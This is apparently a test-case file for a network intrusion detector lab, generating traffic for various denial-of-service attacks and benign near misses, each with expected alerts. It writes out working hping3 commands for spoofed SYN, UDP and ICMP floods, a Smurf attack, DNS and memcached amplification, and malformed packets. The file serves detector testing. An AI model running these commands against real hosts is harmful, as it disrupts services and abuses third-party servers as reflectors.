"""Floods at the IP and TCP layer, and crowds that look like one."""
import time

import webserver
from cases import case

SYN_FLOOD = "hping3 -q -S -p 80 --rand-source -i u{gap} -c {count} 10.20.0.80"
GREETER = """
import concurrent.futures, socket, sys, time
# argv: server, first last octet, number of sources, connections in total, connections per second
server, first, sources, total, rate = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5])
def visit(i):
    s = socket.socket(); s.settimeout(5); s.bind((f"198.51.100.{first + i % sources}", 0))
    s.connect((server, 80)); s.sendall(b"GET /status/204 HTTP/1.0\\r\\n\\r\\n")
    while s.recv(4096): pass
    s.close()
with concurrent.futures.ThreadPoolExecutor(24) as pool:
    start = time.monotonic()
    jobs = []
    for i in range(total):
        time.sleep(max(0, start + i / rate - time.monotonic())); jobs.append(pool.submit(visit, i))
    for job in jobs: job.result()
print(f"{total} visits in {time.monotonic() - start:.2f} s")
"""


def visitor(lab, seconds):
    """One ordinary client that asks the server for a page every half second, before, during and after."""
    loop = f"for i in $(seq {seconds * 2}); do curl -s -m 1 -o /dev/null --interface 198.51.100.7 http://10.20.0.80/status/204; sleep 0.4; done"
    return lab.spawn("sk-c", f"bash -c '{loop}'")


@case("syn_flood", webserver.PACKAGES + ["hping3"], [
    "`syn_flood` once, for 10.20.0.80 port 80: about 1,000 SYNs/s from invented sources that never complete, for over 3 s.",
    "The server has no SYN cookies and a short backlog here: the known client 198.51.100.7, served before and after, is not served while the flood lasts. An effective attack.",
    "No `port_scan`: the flooded server's silence is not evidence against the sources.",
    "No alert about the client 198.51.100.7.",
])
def syn_flood(lab):
    """A SYN flood with invented sources (hping3 --rand-source) against a web server that cannot absorb it, while one ordinary client keeps asking the same server for a page."""
    lab.edge()
    lab.address("sk-c", "eth0", "198.51.100.7/24")
    lab.quiet("sk-s", "sysctl -qw net.ipv4.tcp_syncookies=0 net.ipv4.tcp_max_syn_backlog=32 net.core.somaxconn=64 net.ipv4.tcp_synack_retries=1")
    webserver.start(lab, backlog=16, php=False)
    lab.capture()
    client = visitor(lab, 9)
    time.sleep(2)
    lab.run("sk-c", SYN_FLOOD.format(gap=600, count=4200), timeout=20)
    client.wait()


@case("syn_flood_absorbed", webserver.PACKAGES + ["hping3"], [
    "`syn_flood` once, for 10.20.0.80 port 80: about 450 SYNs/s that never complete.",
    "The server answers with SYN cookies; the client 198.51.100.7 is served throughout: the attack had no effect, its level is lower than that of `syn_flood`.",
])
def syn_flood_absorbed(lab):
    """A smaller SYN flood with invented sources against a server with SYN cookies, which goes on serving its client."""
    lab.edge()
    lab.address("sk-c", "eth0", "198.51.100.7/24")
    lab.quiet("sk-s", "sysctl -qw net.ipv4.tcp_syncookies=2 net.ipv4.tcp_synack_retries=1")
    webserver.start(lab, php=False)
    lab.capture()
    client = visitor(lab, 8)
    time.sleep(2)
    lab.run("sk-c", SYN_FLOOD.format(gap=2000, count=1600), timeout=20)
    client.wait()


def crowd(lab, filter=""):
    lab.edge()
    lab.address("sk-c", "eth0", *[f"198.51.100.{i}/24" for i in range(100, 200)])
    webserver.start(lab, php=False)
    lab.write("greeter.py", GREETER)
    lab.capture(filter=filter)
    lab.run("sk-c", f"/usr/bin/python3 {lab.tmp}/greeter.py 10.20.0.80 100 100 320 260")


@case("syn_crowd", webserver.PACKAGES, [
    "Nothing: no `syn_flood`, since every handshake completes. A rate of SYNs alone is not a flood.",
    "No `port_scan`.",
])
def syn_crowd(lab):
    """The near miss of syn_flood: a flash crowd. 100 client addresses open 320 real connections at about 250 a second, each with a request, an answer and a close."""
    crowd(lab)


@case("syn_crowd_one_way", webserver.PACKAGES, ["Nothing: the clients go on as if they were answered, and no answer is ever seen: the tap sees one direction."])
def syn_crowd_one_way(lab):
    """The same flash crowd on a tap that sees one direction only: what goes to the server."""
    crowd(lab, "dst host 10.20.0.80")


@case("server_down", [], [
    "No `syn_flood` and no `port_scan`: ordinary clients retry a server that has gone silent. This is trouble of a device, not an attack.",
])
def server_down(lab):
    """A near miss of syn_flood and port_scan: 40 real clients go on connecting to a server that has just lost its network; their systems repeat the SYN every second."""
    lab.edge()
    lab.address("sk-c", "eth0", *[f"198.51.100.{i}/24" for i in range(100, 140)])
    lab.spawn("sk-s", "/usr/bin/python3 -m http.server 80 --bind 10.20.0.80 -d /var/empty", wait=1)
    lab.capture()
    for i in range(100, 106):
        lab.run("sk-c", f"curl -s -m 2 -o /dev/null --interface 198.51.100.{i} http://10.20.0.80/")
    lab.quiet("sk-r", "ip neigh replace 10.20.0.80 lladdr 02:00:00:00:05:80 dev dmz nud permanent")
    lab.run("sk-s", "ip route replace blackhole default; ip route flush cache")
    lab.run("sk-c", "for i in $(seq 100 139); do curl -s -m 5 -o /dev/null --interface 198.51.100.$i http://10.20.0.80/ & sleep 0.05; done; wait", timeout=30)


@case("udp_flood", ["hping3"], [
    "Later, with the detector `udp_flood`: one alert for 10.20.0.80 (1,100 datagrams in about 3 s, one way, no service behind the port, ICMP port unreachable as answers). Nothing is asked of it now.",
    "No `syn_flood`, no `port_scan`.",
])
def udp_flood(lab):
    """A UDP flood with invented sources against one port of a server (hping3 --udp --rand-source)."""
    lab.edge()
    lab.capture()
    lab.run("sk-c", "hping3 -q --udp -p 5060 -d 40 --rand-source -i u1800 -c 1100 10.20.0.80", timeout=20)


@case("icmp_flood", ["hping3"], [
    "Later, with the detector `icmp_flood`: one alert for 10.20.0.80 (1,100 echo requests in about 3 s from one source). Nothing is asked of it now.",
    "No `syn_flood`, no `port_scan`.",
])
def icmp_flood(lab):
    """A flood of ICMP echo requests from one real source (hping3 --icmp); the server answers each."""
    lab.edge()
    lab.capture()
    lab.run("sk-c", "hping3 -q --icmp -d 24 -i u1500 -c 1100 10.20.0.80", timeout=20)


@case("smurf", ["hping3"], [
    "Later, with the detector `smurf`: echo requests to the broadcast address 10.20.0.255 in the name of 198.51.100.99 at the first packet, and the answers of many hosts that follow.",
    "No `syn_flood`, no `port_scan`.",
])
def smurf(lab):
    """A Smurf attack in small: echo requests to the directed broadcast of the DMZ in the name of the victim 198.51.100.99, and the answers of the 16 hosts that live there towards the victim."""
    lab.edge()
    # A router that still forwards directed broadcasts, and hosts that still answer them.
    lab.crowd_on_dmz(16, "net.ipv4.icmp_echo_ignore_broadcasts=0")
    lab.quiet("sk-r", "sysctl -qw net.ipv4.conf.all.bc_forwarding=1 net.ipv4.conf.out.bc_forwarding=1 net.ipv4.conf.dmz.bc_forwarding=1")
    lab.capture()
    lab.run("sk-c", "hping3 -q --icmp -d 16 -a 198.51.100.99 -i u100000 -c 25 10.20.0.255", timeout=20)


@case("ping_nearmiss", [], [
    "Nothing: an administrator pings a few hosts, at ping's usual rhythm.",
])
def ping_nearmiss(lab):
    """The near miss of icmp_flood and smurf: ordinary ping of a few hosts, with the usual one-second rhythm, over IPv4 and IPv6."""
    lab.edge()
    lab.capture()
    lab.run("sk-c", "ping -n -c 4 10.20.0.80; ping -n -c 2 10.20.0.53; ping -n -c 2 -W 1 10.20.0.99; ping -n -c 3 2001:db8:20::80; ping -n -c 2 -s 1400 10.20.0.80", timeout=40)


@case("amplification_dns", ["dnsmasq", "hping3"], [
    "Later, with the detector `reflection`: our name server 10.20.0.53 is used as a reflector against 198.51.100.99: one small question repeated, answers 20 times as large, never asked for by the victim.",
    "No `syn_flood`, no `port_scan`."])
def amplification_dns(lab):
    """DNS amplification: questions for a large TXT record in the name of the victim 198.51.100.99 (hping3 --udp --spoof), answered by a real server (dnsmasq) in fragments."""
    import services
    lab.edge()
    big = "\n".join(f'txt-record=big.shop.example,"{i:03d}-{"x" * 180}"' for i in range(8))
    conf = lab.write("dnsmasq.conf", services.ZONE + "edns-packet-max=4096\n" + big + "\n")
    lab.spawn("sk-s", f"dnsmasq -k -C {conf}", wait_port=53, udp=True)
    question = b"\x13\x37\x01\x00\x00\x01\x00\x00\x00\x00\x00\x01\x03big\x04shop\x07example\x00\x00\x10\x00\x01\x00\x00\x29\x10\x00\x00\x00\x00\x00\x00\x00"
    lab.write("question", question)
    lab.capture()
    lab.run("sk-c", f"hping3 -q --udp -p 53 -a 198.51.100.99 -s 4444 -k -E {lab.tmp}/question -d {len(question)} -i u20000 -c 60 10.20.0.53", timeout=20)


@case("amplification_memcached", ["memcached", "hping3", "ncat"], [
    "Later, with the detector `reflection`: the memcached 10.20.0.80 answers questions in the name of 198.51.100.99 with several datagrams each.",
    "A signature for memcached commands over UDP from outside may fire."])
def amplification_memcached(lab):
    """Memcached amplification: `stats` and `get` of a stored value over UDP in the name of the victim 198.51.100.99, answered by a real memcached."""
    lab.edge()
    lab.spawn("sk-s", "memcached -u nobody -l 10.20.0.80 -p 11211 -U 11211", wait_port=11211)
    lab.write("stats", b"\0\1\0\0\0\1\0\0stats\r\n")
    lab.write("get", b"\0\2\0\0\0\1\0\0get a\r\n")
    lab.capture()
    lab.run("sk-c", "(printf 'set a 0 600 4000\\r\\n'; head -c 4000 /dev/zero | tr '\\0' x; printf '\\r\\nquit\\r\\n'; sleep 0.5) | ncat 10.20.0.80 11211")
    lab.run("sk-c", f"hping3 -q --udp -p 11211 -a 198.51.100.99 -s 4444 -k -E {lab.tmp}/stats -d 15 -i u50000 -c 15 10.20.0.80; hping3 -q --udp -p 11211 -a 198.51.100.99 -s 4445 -k -E {lab.tmp}/get -d 15 -i u50000 -c 15 10.20.0.80", timeout=20)


@case("dos_oddities", ["hping3"], [
    "LAND (source is the destination), SYN with FIN, SYN with RST, a SYN with data, an ACK flood of 40, a fragment that never ends: decode and stream events, and signatures for LAND.",
    "No `syn_flood`: a handful of packets."])
def dos_oddities(lab):
    """Single packets that no ordinary system sends (hping3): LAND, contradicting flags, reserved bits, data in a SYN, a first fragment without the rest, a wrong checksum, TTL 1, a source that belongs to the inside."""
    lab.edge()
    lab.spawn("sk-s", "/usr/bin/python3 -m http.server 80 --bind 10.20.0.80 -d /var/empty", wait_port=80)
    lab.quiet("sk-r", "sysctl -qw net.ipv4.conf.all.accept_local=1 net.ipv4.conf.out.accept_local=1")
    lab.capture(dev="out")
    for words in ("-S -p 80 -s 80 -k -a 10.20.0.80", "-S -F -p 80", "-S -R -p 80", "-F -P -U -p 80", "-X -Y -p 80", "-S -p 80 -d 60", "-A -p 80 -i u1000", "-S -p 80 -x -d 24", "-S -p 80 -b", "-S -p 80 -t 1", "-S -p 80 -a 10.20.0.25",
                  "-S -p 80 -a 127.0.0.1", "--udp -p 0 -s 0", "--icmp -C 5 -K 1 --icmp-ipsrc 10.20.0.80 --icmp-ipdst 198.51.100.9 --icmp-gw 198.51.100.10", "--rawip -H 250 -d 20"):
        lab.run("sk-c", f"hping3 -q -c {40 if '-i' in words else 2} {'' if '-i' in words else '-i u20000'} {words} 10.20.0.80", timeout=10)
